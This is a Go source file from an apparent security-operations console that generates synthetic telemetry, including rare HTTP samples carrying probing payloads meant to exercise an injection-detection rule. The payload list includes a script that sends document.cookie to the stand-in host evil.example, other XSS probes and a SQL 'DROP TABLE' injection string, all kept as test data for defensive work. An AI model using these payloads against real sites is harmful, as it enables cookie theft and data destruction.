package telemetry

import (
	"math/rand"
	"sync"
	"time"

	"secops-console/internal/model"
)

const maxHTTPSamples = 20

var services = []string{"gateway", "auth-service", "portal-web", "api-core", "media-cdn"}

var devicePool = []string{"edge-fw-01", "edge-fw-02", "core-sw-01", "lb-nginx-01", "waf-01"}

var quietPaths = []string{"/", "/api/v1/session", "/api/v1/courses", "/static/app.js", "/healthz"}

var userAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)",
	"curl/8.5.0",
	"python-requests/2.32",
	"Go-http-client/2.0",
}

// Snippets that look like probing payloads. Emitted rarely so the injection
// rule has something realistic to catch.
var suspiciousBodies = []string{
	`{"comment":"<script>fetch('//evil.example/c?'+document.cookie)</script>"}`,
	`{"search":"x\" onerror=alert(1) src=\"x"}`,
	`{"redirect":"javascript:void(document.location='//evil.example')"}`,
	`{"name":"Robert'); DROP TABLE students;--"}`,
}

// Generator produces synthetic telemetry samples. Output is random but shaped
// like a quiet production edge: steady traffic with rare spikes and rare
// probing payloads.
type Generator struct {
	mu  sync.Mutex
	rng *rand.Rand
}

func NewGenerator() *Generator {
	return &Generator{rng: rand.New(rand.NewSource(time.Now().UnixNano()))}
}

// Sample returns one synthetic observation stamped now.
func (g *Generator) Sample() model.TelemetrySample {
	g.mu.Lock()
	defer g.mu.Unlock()

	traffic := 60 + g.rng.Float64()*120
	rps := 300 + g.rng.Float64()*400
	// Rare burst an order of magnitude above the steady band.
	if g.rng.Float64() < 0.02 {
		traffic *= 8 + g.rng.Float64()*4
		rps *= 3 + g.rng.Float64()*2
	}

	httpCount := 1 + g.rng.Intn(3)
	samples := make([]model.HTTPSample, 0, httpCount)
	for i := 0; i < httpCount; i++ {
		samples = append(samples, g.httpSample())
	}

	return model.TelemetrySample{
		Timestamp:   time.Now(),
		DeviceID:    devicePool[g.rng.Intn(len(devicePool))],
		Service:     services[g.rng.Intn(len(services))],
		TrafficMbps: round2(traffic),
		RPS:         round2(rps),
		ErrorRate:   round4(g.rng.Float64() * 0.05),
		LatencyMs:   round2(20 + g.rng.Float64()*180),
		HTTPSamples: samples,
	}
}

func (g *Generator) httpSample() model.HTTPSample {
	s := model.HTTPSample{
		Method:    "GET",
		Path:      quietPaths[g.rng.Intn(len(quietPaths))],
		Status:    200,
		UserAgent: userAgents[g.rng.Intn(len(userAgents))],
	}
	if g.rng.Float64() < 0.15 {
		s.Method = "POST"
	}
	if g.rng.Float64() < 0.08 {
		s.Status = []int{400, 401, 404, 429, 500, 502}[g.rng.Intn(6)]
	}
	// Rare probing payload.
	if g.rng.Float64() < 0.03 {
		s.Method = "POST"
		s.Path = "/api/v1/comments"
		s.BodySnippet = suspiciousBodies[g.rng.Intn(len(suspiciousBodies))]
	}
	return s
}

func round2(v float64) float64 {
	return float64(int(v*100)) / 100
}

func round4(v float64) float64 {
	return float64(int(v*10000)) / 10000
}
